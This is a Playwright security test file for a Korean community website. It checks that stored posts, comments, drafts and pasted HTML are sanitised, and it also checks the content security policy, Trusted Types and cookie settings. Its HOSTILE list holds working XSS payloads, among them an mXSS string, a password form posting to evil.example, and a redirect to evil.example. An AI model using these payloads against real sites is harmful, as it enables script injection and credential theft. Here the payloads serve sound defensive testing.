import type { Page } from '@playwright/test';
import { apiAs, seedComment, seedPost, unique } from './support/api.ts';
import { editorOf, followPath } from './support/pages.ts';
import { expect, openBlank, test } from './support/test.ts';

/** Each would call `naruHit`, open a dialog or request a foreign host if it ran. */
const HOSTILE = [
  '<script>window.naruHit = 1</script>',
  '<img src="x" onerror="window.naruHit = 2">',
  '<svg onload="window.naruHit = 3"><animate onbegin="window.naruHit = 4" attributeName="x"></svg>',
  '<a href="javascript:window.naruHit=5">눌러 보세요</a>',
  '<a href="java&#10;script:window.naruHit=6">이것도 눌러 보세요</a>',
  '<iframe srcdoc="<script>parent.naruHit = 7</script>"></iframe>',
  '<p style="position:fixed;inset:0;background:url(https://evil.example/x)">덮는 글</p>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.naruHit=8"></style></table></math>',
  '<form action="https://evil.example"><input name="password"><button>보내기</button></form>',
  '<img src="https://evil.example/pixel.png">',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example">',
  '<details open ontoggle="window.naruHit = 9"><summary>펼침</summary></details>',
  '<p>멀쩡한 글</p>',
].join('');

/** Watches for the effects of hostile text. */
async function trap(page: Page): Promise<{ expectNothing: () => Promise<void> }> {
  const events: string[] = [];
  page.on('dialog', (dialog) => {
    // The page's own prompt about unsaved text.
    if (dialog.type() !== 'beforeunload') events.push(`dialog ${dialog.message()}`);
    void dialog.accept();
  });
  page.on('request', (request) => {
    const { protocol, hostname } = new URL(request.url());
    const own = protocol === 'data:' || protocol === 'blob:' || hostname === '127.0.0.1';
    if (!own) events.push(`request ${request.url()}`);
  });
  return {
    expectNothing: async () => {
      expect(await page.evaluate(() => Reflect.get(window, 'naruHit'))).toBeUndefined();
      expect(events).toEqual([]);
    },
  };
}

async function expectHarmless(page: Page) {
  const text = page.locator('.prose-post').first();
  await expect(text.getByText('멀쩡한 글')).toBeVisible();
  const bad = text.locator('script, svg[onload], iframe, form, base, meta, style, math, object');
  await expect(bad).toHaveCount(0);
  await expect(text.locator('[onerror], [onload], [ontoggle], [href^="java"]')).toHaveCount(0);
  await expect(text.locator('img[src*="evil"], [style*="position"], [style*="url"]')).toHaveCount(
    0,
  );
}

test('a stored hostile post is harmless in list, detail and editor [HTML-02]', async ({ open }) => {
  const title = `<img src=x onerror="window.naruHit=10"> ${unique('공격하는 제목')}`;
  const post = await seedPost('20250002', { board: 'FREE', title, content: HOSTILE });
  await seedComment('20250002', post.id, '<script>window.naruHit=11</script> 댓글');
  const { page } = await open('20250001');
  const watched = await trap(page);
  await page.goto('/main/community/free');
  await page.getByRole('link', { name: title }).click();
  await expect(page.getByRole('heading', { name: title })).toBeVisible();
  await expectHarmless(page);
  await expect(page.getByText('<script>window.naruHit=11</script> 댓글')).toBeVisible();
  for (const words of ['눌러 보세요', '이것도 눌러 보세요']) {
    await page.getByText(words, { exact: true }).click();
  }
  await watched.expectNothing();

  const writer = await open('20250002');
  const watchedWriter = await trap(writer.page);
  await writer.page.goto(`/write/free/${post.id}`);
  await expect(editorOf(writer.page)).toContainText('멀쩡한 글');
  await watchedWriter.expectNothing();
});

test('the page sanitises hostile HTML that the server misses [HTML-12] @whole', async ({
  open,
}) => {
  const post = await seedPost('20250002', { board: 'FREE', title: unique('심어 둔 글') });
  const { page } = await open('20250001', { blocks: true });
  const watched = await trap(page);
  await page.route(`**/api/post/${post.id}`, async (route) => {
    const response = await route.fetch();
    const body: { dto: Record<string, unknown> } = await response.json();
    await route.fulfill({ response, json: { dto: { ...body.dto, content: HOSTILE } } });
  });
  await page.goto(post.path);
  await expectHarmless(page);
  await watched.expectNothing();
});

test('hostile drafts and pastes do not run in the editor [HTML-14] @whole', async ({ open }) => {
  const { page } = await open('20220264', { blocks: true });
  const watched = await trap(page);
  const client = await apiAs('20220264');
  const { meDto } = await client.call<{ meDto: { id: number } }>('GET', '/api/member/me');
  await openBlank(page);
  await page.evaluate(
    ({ key, html }) => {
      const content = { title: '심어 둔 초안', html };
      localStorage.setItem(key, JSON.stringify({ savedAt: Date.now(), content }));
    },
    { key: `naru.draft.${meDto.id}.FREE.new`, html: HOSTILE },
  );
  await page.goto('/write/free');
  await page.getByRole('button', { name: '이어 쓰기' }).click();
  await expect(editorOf(page)).toContainText('멀쩡한 글');
  await watched.expectNothing();

  await page.goto('/write/review');
  await editorOf(page).evaluate((element, html) => {
    const data = new DataTransfer();
    data.setData('text/html', html);
    data.setData('text/plain', '멀쩡한 글');
    const paste = { clipboardData: data, bubbles: true, cancelable: true };
    element.dispatchEvent(new ClipboardEvent('paste', paste));
  }, HOSTILE);
  await expect(editorOf(page)).toContainText('멀쩡한 글');
  await watched.expectNothing();
});

test('the content security policy blocks injected scripts and HTML strings [HEAD-08]', async ({
  open,
}) => {
  const { page } = await open(undefined, { blocks: true });
  const blocked: string[] = [];
  page.on('console', (message) => {
    if (message.type() === 'error') blocked.push(message.text());
  });
  await page.route('**/login', async (route) => {
    const response = await route.fetch();
    const html = await response.text();
    const body = html.replace('<body>', '<body><script>window.naruHit = 1</script>');
    await route.fulfill({ response, body });
  });
  const response = await page.goto('/login');
  const policy = response?.headers()['content-security-policy'] ?? '';
  expect(policy).toContain("script-src 'self';");
  await expect(page.getByRole('heading', { name: '로그인' })).toBeVisible();
  expect(await page.evaluate(() => Reflect.get(window, 'naruHit'))).toBeUndefined();
  await expect.poll(() => blocked.join()).toContain("directive 'script-src 'self''");

  const refusal = await page.evaluate(() => {
    try {
      document.body.innerHTML = '<b>글자로 된 HTML</b>';
      return '';
    } catch (error) {
      return String(error);
    }
  });
  expect(refusal).toContain('TrustedHTML');
  const policies = await page.evaluate(() => {
    const types = Reflect.get(window, 'trustedTypes');
    return ['default', 'evil', 'naru-html', 'naru-html'].map((name) => {
      try {
        types.createPolicy(name, { createHTML: (html: string) => html });
        return `${name} made`;
      } catch {
        return `${name} refused`;
      }
    });
  });
  expect(policies.slice(0, 2)).toEqual(['default refused', 'evil refused']);
  expect(policies[3]).toBe('naru-html refused');
});

test('browser storage holds tokens, drafts and the shape of home, and nothing else [SESS-21] @whole', async ({
  open,
}) => {
  const { page, context } = await open('20250001');
  await page.goto('/main');
  const keys = async () => {
    const all = await page.evaluate(() => Object.keys(localStorage));
    return all.filter((key) => !key.startsWith('naru.draft.')).sort();
  };
  const allowed = ['accessToken', 'naru.member.home', 'refreshToken'];
  await expect.poll(keys).toEqual(allowed);
  for (const path of ['/main/community/secret', '/write/free']) await followPath(page, path);
  await expect(editorOf(page)).toBeVisible();
  await expect.poll(keys).toEqual(allowed);
  for (const cookie of await context.cookies()) {
    const httpOnly = cookie.name !== 'naru_session';
    expect(cookie).toMatchObject({ httpOnly, sameSite: 'Strict' });
  }
});

test('API responses and stored files are never rendered as pages @whole', async ({ open }) => {
  const { page } = await open('20250001');
  for (const path of ['/api/post/1', '/api/health', '/api/nothing']) {
    const response = await page.request.get(path);
    expect(response.headers()['content-type']).toBe('application/json; charset=utf-8');
    expect(response.headers()['x-content-type-options']).toBe('nosniff');
    expect(response.headers()['cache-control']).toContain('no-store');
  }
});
